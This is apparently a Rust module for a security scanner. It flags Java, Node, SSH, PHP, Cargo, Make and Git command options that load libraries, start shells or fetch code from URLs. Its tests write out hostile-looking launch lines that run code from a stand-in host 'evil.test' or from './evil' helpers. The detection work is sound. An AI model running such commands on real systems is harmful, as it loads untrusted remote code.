//! Options by which a program loads or starts other code than what the line names: what a variable would make it do, said
//! on the line itself.

use super::loader::{Loads, loads};
use super::paths::is_odd;
use crate::target::ConfigScope;

const LOADER: &str = "loader-environment";
const FETCHES: &str = "fetch-and-execute-launch";
const STARTS: &str = "shell-wrapper-launch";

/// Programs by which SSH usually reaches a host.
const PROXIES: [&str; 14] = [
    "none",
    "ssh",
    "nc",
    "ncat",
    "connect",
    "corkscrew",
    "cloudflared",
    "aws",
    "gcloud",
    "az",
    "tsh",
    "tailscale",
    "sft",
    "boundary",
];

/// The rule and the index of the argument, when an option loads or starts something.
pub(super) fn judge(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
    let plain = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match plain {
        "java" | "javaw" => java(args),
        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => modules(args),
        "go" => at(
            before(args),
            |a| ["-toolexec", "-exec", "-overlay"].iter().any(|f| is(a, f) || is(a, &format!("-{f}"))),
            LOADER,
        ),
        "ssh" | "autossh" | "scp" | "sftp" | "rsync" => ssh(plain, args),
        "php" => php(args),
        "cargo" => cargo(args),
        "make" | "gmake" | "mingw32-make" => make(args),
        "git" => git(args),
        _ => None,
    }
}

/// The verb, and the options before the first word that is none.
fn before<'s, 'a>(args: &'s [&'a str]) -> &'s [&'a str] {
    let end = args.iter().skip(1).position(|a| !a.starts_with('-')).map_or(args.len(), |at| at + 1);
    &args[..end]
}

fn at(args: &[&str], found: impl Fn(&str) -> bool, rule: &'static str) -> Option<(&'static str, usize)> {
    // what stands behind `--` is somebody else's
    args.iter().take_while(|a| **a != "--").position(|a| found(a)).map(|at| (rule, at))
}

/// Whether an argument is an option, alone or with its value behind `=`.
fn is(arg: &str, flag: &str) -> bool {
    arg.strip_prefix(flag).is_some_and(|r| r.is_empty() || r.starts_with('='))
}

fn is_address(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    ["http://", "https://", "ftp://"].iter().any(|p| lower.starts_with(p))
}

/// Options of a Java machine before the class or the archive.
fn java(args: &[&str]) -> Option<(&'static str, usize)> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let agent =
            ["-javaagent:", "-agentpath:", "-Xbootclasspath", "-XX:OnError=", "-XX:OnOutOfMemoryError=", "-XX:Flags="];
        let library = arg.strip_prefix("-agentlib:").is_some_and(|l| !l.starts_with("jdwp"));
        if library
            || agent.iter().any(|p| arg.starts_with(p))
            || arg.starts_with("-XX:VMOptionsFile=")
            || arg.starts_with('@')
        {
            return Some((LOADER, at));
        }
        if *arg == "-jar" {
            return args.get(at + 1).filter(|f| is_address(f)).map(|_| (FETCHES, at + 1));
        }
        if !arg.starts_with('-') {
            return None;
        }
        at += if ["-cp", "-classpath", "--class-path", "-p", "--module-path", "--add-modules"].contains(arg) {
            2
        } else {
            1
        };
    }
    None
}

/// Modules of Node.js, Bun and Deno that are loaded first, from an address.
fn modules(args: &[&str]) -> Option<(&'static str, usize)> {
    let flags = ["-r", "--require", "--import", "--loader", "--experimental-loader", "--preload", "--import-map"];
    let mut at = 0;
    while let Some(arg) = args.get(at).filter(|a| a.starts_with('-') || ["run", "serve", "x"].contains(*a)) {
        let (flag, value) = arg.split_once('=').map_or((*arg, None), |(f, v)| (f, Some(v)));
        let flag = flag.replace('_', "-");
        if flags.contains(&flag.as_str()) {
            let (value, place) = match value {
                Some(value) => (value, at),
                None => (args.get(at + 1).copied().unwrap_or_default(), at + 1),
            };
            let inline = !value.starts_with("data:") && value.get(..5).is_some_and(|d| d.eq_ignore_ascii_case("data:"));
            if is_address(value) || inline {
                return Some((FETCHES, place));
            }
            at = place;
        }
        at += 1;
    }
    None
}

/// Options of SSH and of what copies with it that start a program, load a library, or name settings that may.
fn ssh(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let next = args.get(at + 1).copied().unwrap_or_default();
        let long = arg.strip_prefix("--rsh=").or((*arg == "--rsh").then_some(next)).filter(|_| program == "rsync");
        if let Some(value) = long {
            return loads("RSYNC_RSH", value, false, ConfigScope::Project).map(|_| (LOADER, at));
        }
        let Some(letters) = arg.strip_prefix('-').filter(|l| !l.is_empty() && !l.starts_with('-')) else {
            // the command for the other machine is its own
            if ["ssh", "autossh"].contains(&program) && !arg.starts_with('-') {
                return None;
            }
            at += 1;
            continue;
        };
        let valued = if program == "rsync" { "eBMTf" } else { "BbcDEeFIiJLlmOopQRSWwPsX" };
        let Some((i, letter)) = letters.char_indices().find(|(_, c)| valued.contains(*c)) else {
            at += 1;
            continue;
        };
        let joined = &letters[i + 1..];
        let (value, place) = if joined.is_empty() { (next, at + 1) } else { (joined, at) };
        let found = match (program, letter) {
            ("rsync", 'e') => loads("RSYNC_RSH", value, false, ConfigScope::Project).is_some(),
            ("rsync", _) => false,
            ("scp" | "sftp", 'S') => loads("RSYNC_RSH", value, false, ConfigScope::Project).is_some(),
            (_, 'o') => setting(value),
            (_, 'F') => is_elsewhere(value),
            (_, 'I') => !value.starts_with('/') || is_odd(value),
            _ => false,
        };
        if found {
            return Some((LOADER, place.min(args.len() - 1)));
        }
        at = place + 1;
    }
    None
}

/// A file that is neither the person's nor the system's.
fn is_elsewhere(path: &str) -> bool {
    let own = ["~/", "/home/", "/Users/", "/root/", "/etc/", "$HOME/", "${HOME}/", "%USERPROFILE%", "C:\\Users\\"];
    !["none", "/dev/null"].contains(&path) && (!own.iter().any(|o| path.starts_with(o)) || path.contains(".."))
}

/// A setting of SSH that starts a program or loads a library.
fn setting(text: &str) -> bool {
    let text = text.trim().trim_matches('"');
    let (name, value) = text.split_once(['=', ' ']).unwrap_or((text, ""));
    let value = value.trim_matches([' ', '=', '"', '\'']);
    match name.trim().to_ascii_lowercase().as_str() {
        "proxycommand" => {
            let program = value.split_whitespace().next().unwrap_or_default();
            let bare = ["/usr/bin/", "/bin/", "/usr/local/bin/", "/opt/homebrew/bin/"];
            let bare = bare.iter().find_map(|f| program.strip_prefix(f)).unwrap_or(program);
            value.contains([';', '|', '&', '`', '$', '<', '>']) || !PROXIES.contains(&bare)
        }
        "localcommand" | "knownhostscommand" | "xauthlocation" => true,
        "pkcs11provider" | "securitykeyprovider" => value != "none" && !value.starts_with('/'),
        "include" | "userknownhostscommand" | "proxyjumpcommand" => true,
        _ => false,
    }
}

/// Settings of PHP that run a file before the script, or load a library.
fn php(args: &[&str]) -> Option<(&'static str, usize)> {
    let names =
        ["auto_prepend_file", "auto_append_file", "extension", "zend_extension", "allow_url_include", "ffi.preload"];
    let mut at = 0;
    while let Some(arg) = args.get(at).filter(|a| a.starts_with('-')) {
        let next = args.get(at + 1).copied().unwrap_or_default();
        let (value, place) = match arg.strip_prefix("-d").or_else(|| arg.strip_prefix("--define=")) {
            Some("") => (next, at + 1),
            Some(value) => (value, at),
            None if *arg == "--define" => (next, at + 1),
            None => ("", at),
        };
        let (name, value) = value.trim().split_once('=').unwrap_or((value, "1"));
        let name = name.trim().to_ascii_lowercase();
        let library = name.ends_with("extension") && !value.contains(['/', '\\']);
        let off = ["", "0", "off", "none"].contains(&value.trim().to_ascii_lowercase().as_str());
        if (names.contains(&name.as_str()) || name == "opcache.preload") && !library && !off {
            return Some((if is_address(value) { FETCHES } else { LOADER }, place));
        }
        at = place + 1;
    }
    None
}

/// Settings of Cargo that name programs or other places for packages, and files of such settings.
fn cargo(args: &[&str]) -> Option<(&'static str, usize)> {
    let risky = ["runner", "rustc", "linker", "rustflags", "rustdoc", "credential", "alias.", "env."];
    let found = |value: &str| {
        let lower = value.to_ascii_lowercase();
        !value.is_empty() && (!value.contains('=') || risky.iter().any(|r| lower.contains(r)))
    };
    for (i, arg) in args.iter().enumerate().take_while(|(_, a)| **a != "--") {
        match arg.strip_prefix("--config=") {
            Some(value) if found(value) => return Some((LOADER, i)),
            None if *arg == "--config" && args.get(i + 1).is_some_and(|v| found(v)) => return Some((LOADER, i + 1)),
            _ => {}
        }
    }
    None
}

fn make(args: &[&str]) -> Option<(&'static str, usize)> {
    let shell = |value: &str| loads("NPM_CONFIG_SCRIPT_SHELL", value, false, ConfigScope::Project) == Some(Loads::Code);
    let found = args.iter().position(|a| a.strip_prefix("SHELL=").is_some_and(shell) || a.starts_with("MAKEFILES="));
    found.map(|at| (LOADER, at)).or_else(|| at(args, |a| is(a, "--eval") || is(a, "-E"), STARTS))
}

/// Verbs of Git that start a program.
fn git(args: &[&str]) -> Option<(&'static str, usize)> {
    let mut verb = 0;
    while let Some(arg) = args.get(verb).filter(|a| a.starts_with('-')) {
        verb +=
            if ["-c", "-C", "--git-dir", "--work-tree", "--namespace", "--config-env"].contains(arg) { 2 } else { 1 };
    }
    let rest = args.get(verb + 1..).unwrap_or_default();
    let option = |flags: &[&str], letter: Option<char>| {
        rest.iter().position(|a| {
            let short = a.strip_prefix('-').filter(|r| !r.starts_with('-'));
            let joined = letter.is_some_and(|l| short.is_some_and(|s| s.contains(l)));
            joined || flags.iter().any(|f| is(a, f))
        })
    };
    let word = |word: &str| rest.iter().position(|a| *a == word);
    let found = match *args.get(verb)? {
        "difftool" => option(&["--extcmd"], Some('x')),
        "rebase" => option(&["--exec"], Some('x')),
        "grep" => option(&["--open-files-in-pager"], Some('O')),
        "bisect" => word("run"),
        "submodule" => word("foreach"),
        "filter-branch" => Some(0).filter(|_| !rest.is_empty()),
        _ => None,
    };
    found.map(|at| (STARTS, verb + 1 + at))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn options_that_load_or_start_something_are_seen() {
        for (line, rule) in [
            ("java -javaagent:lib/evil.jar -jar s.jar", LOADER),
            ("java -Xmx1g -XX:OnOutOfMemoryError=x -cp a Main", LOADER),
            ("java @args", LOADER),
            ("java -jar https://evil.test/x.jar", FETCHES),
            ("go run -toolexec ./x ./cmd", LOADER),
            ("go run -exec=./x ./cmd", LOADER),
            ("ssh -o ProxyCommand=./evil h", LOADER),
            ("ssh -oproxycommand=./evil h", LOADER),
            ("ssh -F ./ssh_config h", LOADER),
            ("ssh -vF ./ssh_config h", LOADER),
            ("ssh -I ./x.so h", LOADER),
            ("rsync -e ./evil a:b .", LOADER),
            ("rsync -av --rsh=./evil a:b .", LOADER),
            ("scp -S ./x a:b .", LOADER),
            ("node --experimental-loader https://evil.test/l.mjs s.js", FETCHES),
            ("node --import=DATA:text/javascript,x s.js", FETCHES),
            ("deno run --preload=https://evil.test/x main.ts", FETCHES),
            ("php -d auto_prepend_file=https://evil.test/x.php s.php", FETCHES),
            ("php -dauto_prepend_file=./x.php s.php", LOADER),
            ("cargo --config target.x.runner=\"./evil.sh\" run", LOADER),
            ("cargo --config ./x.toml run", LOADER),
            ("make SHELL=./evil mcp", LOADER),
            ("make --eval=x mcp", STARTS),
            ("git difftool -x ./evil", STARTS),
            ("git -C x bisect run ./x", STARTS),
            ("git submodule foreach ./evil", STARTS),
            ("git grep -Oid x", STARTS),
            ("git rebase --exec=./x main", STARTS),
        ] {
            let words: Vec<&str> = line.split_whitespace().collect();
            assert_eq!(judge(words[0], &words[1..]).map(|f| f.0), Some(rule), "{line}");
        }
    }

    #[test]
    fn usual_options_are_quiet() {
        for line in [
            "java -Xmx1g -Dx=y -cp lib/* com.acme.Main -javaagent:x",
            "java -agentlib:jdwp=transport=dt_socket,address=127.0.0.1:5005 -jar s.jar",
            "go run ./cmd/server -exec",
            "ssh -i ~/.ssh/id -o IdentitiesOnly=yes -F ~/.ssh/config host node x.js -F ./x",
            "rsync -av -e ssh a b",
            "node --import tsx --require dotenv/config --loader ts-node/esm s.js",
            "node s.js --import https://a.test",
            "deno run --allow-net --import-map=import_map.json main.ts",
            "php -d memory_limit=1G -d extension=redis artisan mcp",
            "cargo --config net.git-fetch-with-cli=true run",
            "make -C x SHELL=/bin/bash mcp",
            "git -C x mcp --extcmd y",
            "git grep x",
            "git submodule update",
            "uvx acme",
        ] {
            let words: Vec<&str> = line.split_whitespace().collect();
            assert_eq!(judge(words[0], &words[1..]), None, "{line}");
        }
        let ssh = ["-o", "ProxyCommand=cloudflared access ssh --hostname %h", "host"];
        assert_eq!(judge("ssh", &ssh), None);
    }
}
